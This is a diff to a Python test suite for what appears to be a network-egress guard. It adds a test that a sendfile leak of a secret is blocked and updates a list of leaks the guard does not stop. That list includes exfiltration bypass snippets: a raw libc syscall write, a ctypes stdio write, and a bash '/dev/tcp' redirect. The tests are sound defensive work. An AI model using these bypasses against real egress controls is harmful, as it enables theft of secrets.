@@ -58,6 +58,19 @@ class NoRetreat(unittest.TestCase):
         event = next(event for event in ran.events if event["event"] == "stopped")
         self.assertEqual(event["peer"], f"127.0.0.11:{port}")
 
+    def test_nor_by_sendfile(self) -> None:
+        false = Listener(certificate("two.example"))
+        code = (
+            "import tempfile\nfile = tempfile.TemporaryFile(); file.write(b'SECRET'); file.flush()\n"
+            "secure()\ns = socket.create_connection(('one.example', port))\n"
+            "try: os.sendfile(s.fileno(), file.fileno(), 0, 6)\nexcept BrokenPipeError: print('stopped')\n"
+        )
+        with false as port:
+            ran = self.run_python(code, port)
+        self.assertEqual(ran.output, "refused\nstopped\n", str(ran))
+        self.assertNotIn(b"SECRET", b"".join(false.heard))
+        self.assertEqual(self.stops(ran), ["stopped"])
+
     def test_other_places_and_tls_stay_free(self) -> None:
         false, other = Listener(certificate("two.example")), Listener(certificate("one.example"))
         with false as port, other as free:
@@ -159,11 +172,8 @@ class NoRetreat(unittest.TestCase):
 
     def test_what_is_not_stopped(self) -> None:
         # Each row of docs/not-stopped.md that says so: where one does not hold any more, the row is wrong.
-        begin = "import ctypes, subprocess, tempfile\nlibc = ctypes.CDLL(None)\nsecure()\n"
+        begin = "import ctypes, subprocess\nlibc = ctypes.CDLL(None)\nsecure()\n"
         open_one = "s = socket.create_connection(('one.example', port))\n"
-        sendfile = (
-            "f = tempfile.TemporaryFile(); f.write(b'SECRET'); f.flush(); os.sendfile(s.fileno(), f.fileno(), 0, 6)"
-        )
         stdio = (
             "libc.fdopen.restype = ctypes.c_void_p; f = ctypes.c_void_p(libc.fdopen(s.fileno(), b'w'))\n"
             "libc.fputs(b'SECRET', f); libc.fflush(f)"
@@ -171,7 +181,6 @@ class NoRetreat(unittest.TestCase):
         child = "subprocess.run(['bash', '-c', f'echo SECRET > /dev/tcp/127.0.0.11/{port}'])"
         for name, code in (
             ("a bare system call", open_one + "libc.syscall(1, s.fileno(), b'SECRET', 6)"),
-            ("sendfile", open_one + sendfile),
             ("stdio", open_one + stdio),
             ("another program", child),
             ("another address", "clear('two.example')"),
